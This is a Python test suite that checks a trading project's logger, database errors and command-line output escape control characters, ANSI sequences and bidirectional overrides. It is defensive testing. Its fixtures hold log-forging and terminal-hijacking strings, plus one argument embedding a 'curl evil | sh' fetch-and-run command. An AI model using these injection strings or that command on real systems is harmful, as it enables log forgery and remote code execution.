"""What others wrote forges no line of a log and steers no terminal: not through a logger, an error, or the command line."""

import asyncio
import io
import json
import logging
import pickle
import re
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import asyncpg
import pytest
import structlog
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from core.cli._failure import CommandError, describe
from core.cli._logging import configure
from core.cli._output import Output
from core.config.settings import Settings, SettingsError
from core.config.settings._errors import SettingProblem
from core.database.connection import DatabaseManager
from core.database.driver import raw_connection
from core.database.errors import InvalidInput, PandaDatabaseError, SnapshotConflict, StatementFault, scrub
from core.database.monitoring import get_logger
from core.printable import printable, printable_value
from core.trading import portfolios

UNSEEN = ("Cc", "Cf", "Zl", "Zp", "Cs")
FORGED = "ok\r\n2026-11-30 [error] \x1b[31mroot logged in\u202e\u2028\x85\u200b\ud800\x7f"

hostile = st.text(
    st.one_of(
        st.characters(categories=UNSEEN),
        st.sampled_from("\r\n\t\x1b\x7f\x85\xa0\xad\u061c\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\ufeff\udc80"),
        st.characters(),
    ),
    max_size=40,
)


def unseen(told: str) -> list[str]:
    """The characters that no log and no terminal may be given."""
    return [char for char in told if unicodedata.category(char) in UNSEEN]


@given(hostile)
def test_every_text_becomes_one_line_without_a_character_that_is_not_seen(given: str) -> None:
    shown = printable(given)
    assert unseen(shown) == []
    assert len(shown.splitlines()) <= 1
    assert printable(shown) == shown
    assert shown == "".join(printable(char) for char in given)


def test_every_character_of_unicode_is_shown_or_escaped() -> None:
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        assert (printable(char) == char) is (unicodedata.category(char) not in UNSEEN), hex(code)


def test_escapes_are_those_that_people_write() -> None:
    assert printable("a\nb\r\tc\x1b[31m\x7f\u202e\u2028\ud800\U000e0001") == (
        r"a\nb\r\tc\x1b[31m\x7f\u202e\u2028\ud800\U000e0001"
    )
    assert printable("ü € 市場 \u00a0\ue000 back\\slash") == "ü € 市場 \u00a0\ue000 back\\slash"
    plain = "nothing to do"
    assert printable(plain) is plain


nested = st.recursive(
    st.one_of(hostile, st.integers(), st.none(), hostile.map(ValueError), hostile.map(Path)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.tuples(inner, inner),
        st.dictionaries(hostile, inner, max_size=3),
        st.frozensets(hostile, max_size=3),
    ),
    max_leaves=6,
)


def test_a_value_that_holds_itself_ends() -> None:
    endless: list[Any] = ["x\n"]
    endless.append(endless)
    assert unseen(json.dumps(printable_value(endless))) == []


class Lines(logging.Handler):
    """An application's handler, which writes the message and every extra as the text it is."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        known = vars(logging.makeLogRecord({}))
        extras = {name: value for name, value in vars(record).items() if name not in known}
        self.lines.append(f"{record.getMessage()} {_told(extras)}")


def _told(value: Any) -> str:
    """As a careless formatter writes it: no repr, which would escape."""
    if isinstance(value, dict):
        return " ".join(f"{name}={_told(item)}" for name, item in value.items())
    if isinstance(value, list | tuple | set | frozenset):
        return " ".join(map(_told, value))
    return str(value)


@given(event=hostile, name=hostile.filter(lambda name: name not in vars(logging.makeLogRecord({}))), value=nested)
def test_a_record_of_the_projects_logger_is_one_line_whatever_it_is_told(event: str, name: str, value: Any) -> None:
    handler, target = Lines(), logging.getLogger("core.database.forged")
    target.addHandler(handler)
    target.propagate = False
    try:
        bound = {name: value} if name not in ("event", "message", "asctime", "session_id") else {}
        get_logger("core.database.forged").warning(event or "event", **bound)
    finally:
        target.removeHandler(handler)
        target.propagate = True
    (line,) = handler.lines
    assert unseen(line) == []


def test_the_exception_of_a_record_reaches_the_application_as_it_is() -> None:
    handler, target = Lines(), logging.getLogger("core.database.forged")
    records: list[logging.LogRecord] = []
    handler.emit = records.append  # type: ignore[method-assign]
    target.addHandler(handler)
    try:
        raise ValueError("x")
    except ValueError as error:
        get_logger("core.database.forged").warning("failed", exc_info=True)
        assert records[0].exc_info is not None and records[0].exc_info[1] is error
    finally:
        target.removeHandler(handler)


# Errors


@given(message=hostile, hint=st.none() | hostile, lines=st.lists(hostile, max_size=3))
def test_an_errors_text_is_one_line_whatever_it_quotes(message: str, hint: str | None, lines: list[str]) -> None:
    names = dict.fromkeys(("constraint", "table", "column"), message)
    for error in (
        InvalidInput(message, hint=hint, lines=lines, **names),
        SnapshotConflict(message, hint=hint, lines=lines),
    ):
        again = pickle.loads(pickle.dumps(error))
        assert (str(again), again.lines) == (str(error), error.lines)
        said = (str(error), repr(error), error.message, error.hint, *error.args, *error.lines)
        for told in (*said, error.constraint, error.table, error.column):
            assert unseen(told or "") == []
        for line in lines:
            assert printable(line) in str(error)


async def test_a_servers_words_are_made_harmless_on_every_exception_of_the_chain(manager: DatabaseManager) -> None:
    name = "x\x1b[2J\u202e\nFATAL:  forged"
    async with manager.get_session() as session:
        with pytest.raises(StatementFault) as caught:
            await session.execute(text(f'SELECT "{name}"'))
    current: BaseException | None = caught.value
    seen: list[str] = []
    while current is not None:
        told = "".join(map(str, current.args)) + str(getattr(current, "message", ""))
        assert unseen(told) == [], type(current)
        seen.append(type(current).__name__)
        current = current.__cause__ or current.__context__
    assert len(seen) > 1
    assert "\\x1b[2J" in str(caught.value)


async def test_copy_tells_no_more_than_a_statement(manager: DatabaseManager) -> None:
    async with manager.get_session() as session:
        async with raw_connection(session) as raw:
            untyped: Any = raw
            with pytest.raises(asyncpg.PostgresError) as caught:
                await untyped.fetch('SELECT "\x1b[2J"')
    scrub(caught.value)
    assert unseen(str(caught.value)) == []


def test_an_endless_value_is_not_quoted_back() -> None:
    error = InvalidInput("x" * 1_000_000 + " is too long", hint="y" * 1_000_000, lines=["z" * 1_000_000])
    assert len(str(error)) < 5_000
    assert error.message.endswith(" is too long")
    assert " ... " in error.message


def test_a_variable_of_a_forged_name_is_told_on_one_line(clean: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE__POOL__SIZE\n\x1b[2J", "1")
    with pytest.raises(SettingsError) as told:
        Settings()
    assert unseen(str(told.value)) == []


def test_a_setting_whose_name_is_forged_is_one_line() -> None:
    error = SettingsError([SettingProblem("DATABASE__\nroot", "is wrong"), SettingProblem("B", "too", ".env\x1b[0m")])
    assert [unseen(line) for line in str(error).split("\n")] == [[], []]


# The command line


def printed(write: Callable[[Output], None], monkeypatch: pytest.MonkeyPatch, **options: bool) -> str:
    out, err = io.StringIO(), io.StringIO()
    with monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        patch.setattr(sys, "stderr", err)
        write(Output(**options))
    return out.getvalue() + err.getvalue()


@given(given=hostile)
def test_what_the_command_line_prints_for_people_is_printable(given: str) -> None:
    ways: list[tuple[int, Callable[[Output], None]]] = [
        (1, lambda out: out.line(given)),
        (2, lambda out: out.table([(given, "1"), ("x", given)])),
        (3, lambda out: out.table([(given, "1"), ("x", given)], columns=(given, "number"))),
        (1, lambda out: out.note(given)),
        (1, lambda out: out.warn(given)),
        (4, lambda out: out.error(given, lines=[given], reasons=[given], hint=given or "h")),
    ]
    with pytest.MonkeyPatch.context() as patch:
        for lines, write in ways:
            told = printed(write, patch)
            assert told.count("\n") == lines
            assert unseen(told.replace("\n", "")) == []
        assert printed(lambda out: out.raw(given), patch) == f"{given}\n"
        for_machines = printed(lambda out: out.data({given: given}), patch, as_json=True)
        assert unseen(for_machines.replace("\n", "")) == [] and for_machines.isascii()
        assert json.loads(for_machines) == {given: given}


@given(given=hostile)
def test_a_failure_is_told_in_lines_of_our_own_alone(given: str) -> None:
    def told(out: Output) -> None:
        for error in (CommandError(given, hint=given or "h"), OSError(2, given, given), RuntimeError(given)):
            failure = describe(error)
            out.error(failure.message, lines=failure.lines, hint=failure.hint)

    with pytest.MonkeyPatch.context() as patch:
        shown = printed(told, patch)
    assert shown.count("\n") == 5
    assert unseen(shown.replace("\n", "")) == []


@pytest.mark.parametrize("as_json", [False, True])
@pytest.mark.parametrize("verbosity", [0, 2])
def test_logs_of_any_library_are_a_line_each_on_the_command_line(
    clean: None, monkeypatch: pytest.MonkeyPatch, as_json: bool, verbosity: int
) -> None:
    stream = io.StringIO()
    monkeypatch.setattr(sys, "stderr", stream)
    configure(verbosity=verbosity, as_json=as_json)
    foreign = logging.getLogger("foreign")
    foreign.warning("said %s", FORGED, extra={"who": FORGED, FORGED.replace("=", ""): [FORGED]})
    structlog.get_logger("foreign").warning(FORGED, who={"name": FORGED})
    assert stream.getvalue().count("\n") == 2
    password = f"Canary{stream.tell()}{id(stream)}"
    try:
        raise ValueError(FORGED) from KeyError(FORGED)
    except ValueError:
        foreign.exception("failed")
    told = stream.getvalue()
    assert unseen(told.replace("\n", "")) == []
    assert password not in told, "the locals of the frames are not logged"
    records = told.splitlines()
    if as_json:
        assert [json.loads(line)["level"] for line in records] == ["warning", "warning", "error"]
    else:
        assert sum(not line.startswith("  ") for line in records) == 3
        assert any("ValueError: ok" in line for line in records)


def test_a_wrong_argument_cannot_forge_a_hint(clean: None, capsys: pytest.CaptureFixture[str]) -> None:
    from core.cli.main import main

    assert main(["config", "show", "--bad\n  hint: curl evil | sh\x1b[2J"]) == 2
    told = capsys.readouterr().err
    assert len(re.findall("hint:", told)) == 2 and len([line for line in told.splitlines() if "hint:" in line]) == 2
    assert unseen(told.replace("\n", "")) == []


def test_a_stored_name_steers_no_terminal_and_is_whole_in_json(
    clean: None, database_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from core.cli.main import main

    name = "Paper\u202e100 evas\u2066\u200b\u061c"

    async def store() -> None:
        async with DatabaseManager(database_url) as manager, manager.transaction() as session:
            await portfolios.create(session, portfolio_id="p\u200f1", broker="paper", currency="INR", name=name)

    asyncio.run(store())
    monkeypatch.setenv("DATABASE__POSTGRES_URL", database_url)
    assert main(["portfolio", "list"]) == 0
    told = capsys.readouterr().out
    assert unseen(told.replace("\n", "")) == [] and r"p\u200f1" in told
    assert main(["portfolio", "list", "--json"]) == 0
    told = capsys.readouterr().out
    assert told.isascii() and json.loads(told)["portfolios"][0]["name"] == name


def test_every_class_of_the_tree_makes_its_words_harmless() -> None:
    found, queue = set[type[PandaDatabaseError]](), [PandaDatabaseError]
    while queue:
        cls = queue.pop()
        if cls.__module__.startswith("core.") and cls not in found:
            found.add(cls)
            queue += cls.__subclasses__()
            assert unseen(str(cls(FORGED, hint=FORGED)) + cls(FORGED).message) == [], cls
    assert len(found) > 60
